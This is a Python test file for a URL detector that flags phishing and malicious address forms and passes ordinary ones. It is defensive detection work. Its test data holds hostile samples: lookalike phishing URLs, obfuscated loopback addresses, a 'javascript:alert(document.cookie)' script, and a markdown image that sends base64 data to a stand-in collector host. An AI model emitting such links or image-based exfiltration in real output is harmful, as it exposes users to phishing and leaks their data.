"""Addresses that look malicious, and those that do not."""

import pytest

from tests.support.subjects import look, values
from vedette.detectors.urls import create

URLS = create({})


@pytest.mark.parametrize(
    "url",
    [
        "http://paypal.com@198.51.100.7/login",
        "https://paypal.secure-login.account-verify.top/update",
        "http://93.184.216.34/free-gift.exe",
        "https://xn--pypal-4ve.com-login.xyz/",
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "http://0x7f000001/",
        "http://2130706433/",
        "http://0177.0.0.1/a",
        "http://127.1/",
        "http://45.13.22.9/login",
        "https://www.apple.com.login-verify.tk/unlock",
    ],
)
def test_bad_forms_score_high(url: str) -> None:
    assert look(URLS, f"Please open {url} now").score >= 0.5


@pytest.mark.parametrize(
    "url",
    ["https://docs.python.org/3/library/re.html", "http://localhost:8080/x?y=1",
     "https://login.microsoftonline.com/", "https://github.com/a/b/blob/main/c.py#L3",
     "https://example.org/setup.html?page=2", "http://127.0.0.1:4000/login",
     "http://10.0.0.1/account"],
)  # fmt: skip
def test_ordinary_ones_do_not(url: str) -> None:
    assert look(URLS, f"See {url}.").score < 0.5


def test_a_script_is_found_to_its_end() -> None:
    assert values(URLS, "Click javascript:alert(document.cookie) now") == [
        ("script", "javascript:alert(document.cookie)")
    ]


def test_an_image_that_carries_data_away_is_found_in_outputs() -> None:
    text = "![x](https://collect.example/p.png?d=c2VjcmV0)"
    assert values(URLS, text, "output") == [
        ("exfiltration", "https://collect.example/p.png?d=c2VjcmV0")
    ]
    assert look(URLS, text, "input").score < 0.5


def test_lists_decide_first() -> None:
    lists = create({"allow": ["example.org"], "deny": ["bad.example.org"]})
    assert look(lists, "http://203-0-113.example.org/x.exe").score == 0
    assert look(lists, "https://very.bad.example.org/").score == 1
    only = create({"allow": ["example.org"], "only_allowed": True})
    assert look(only, "https://other.org/").score == 1
